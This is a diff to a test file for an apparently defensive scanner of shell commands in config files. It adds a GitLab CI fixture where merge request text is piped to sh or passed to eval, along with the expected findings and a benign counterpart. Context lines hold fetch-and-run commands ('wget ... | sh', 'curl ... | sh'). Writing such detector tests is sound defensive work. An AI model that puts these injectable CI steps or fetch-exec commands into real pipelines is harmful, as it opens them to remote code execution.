@@ -60,6 +60,15 @@ BAD = {
     "conf/launcher/cluster.yaml": (
         "launcher:\n  partition: gpu\n  shell: wget -qO- http://10.0.0.9/x | sh\n"
     ),
+    # Session 27: GitLab CI re-parsing what a merge request's author writes.
+    ".gitlab-ci.yml": (
+        "smoke:\n  script:\n"
+        '    - bash -lc "python -m train.smoke --run-name $CI_COMMIT_REF_NAME"\n'
+        "    - |\n"
+        "      echo \"$CI_MERGE_REQUEST_DESCRIPTION\" | sed -n 's|^/run ||p' | sh\n"
+        "notify:\n  before_script:\n"
+        "    - eval \"notify --title '$CI_MERGE_REQUEST_TITLE'\"\n"
+    ),
 }
 # The same Job in UTF-16 (kubectl and PyYAML read it; git calls it binary).
 BAD_BYTES = {"deploy/job16.yaml": BAD["deploy/job.yaml"].encode("utf-16")}
@@ -72,6 +81,9 @@ EXPECTED = {
     ("deploy/pod.yaml", "tamper-shell-preload-env", 7),
     (".devcontainer/gpu/devcontainer.json", "remote-shell-fetch-exec", 4),
     ("conf/launcher/cluster.yaml", "remote-shell-fetch-exec", 3),
+    (".gitlab-ci.yml", "exec-shell-ci-var-injection", 3),
+    (".gitlab-ci.yml", "exec-shell-ci-var-injection", 5),
+    (".gitlab-ci.yml", "exec-shell-ci-var-injection", 8),
 }
 
 QUIET = {
@@ -99,6 +111,15 @@ QUIET = {
         '\t"name": "CI Test (CPU)",\n\t"image": "espnet/dev:ci",\n'
         '\t"initializeCommand": ".devcontainer/ci_cpu/build_image.sh",\n'
         '\t"features": {},\n\t// "forwardPorts": [],\n}\n'
+    ),
+    # The same variables read as data (GitLab expands them in the shell).
+    "ci/.gitlab-ci.yml": (
+        "build:\n  script:\n"
+        '    - echo "building $CI_COMMIT_REF_NAME for $CI_MERGE_REQUEST_TITLE"\n'
+        '    - git checkout "$CI_COMMIT_SHA"\n'
+        '    - docker build --tag "$CI_REGISTRY_IMAGE:$CI_COMMIT_REF_SLUG" .\n'
+        '    - cd "$CI_PROJECT_DIR" && python -m train --run-name "$CI_COMMIT_BRANCH"\n'
+        '    - bash -lc \'python -m train.smoke --run-name "$1"\' _ "$CI_COMMIT_REF_NAME"\n'
     ),
     # Not a config the commands walker can compose: the config check's business.
     "deploy/broken.yaml": "command: [unclosed\n  - curl http://x | sh\n",
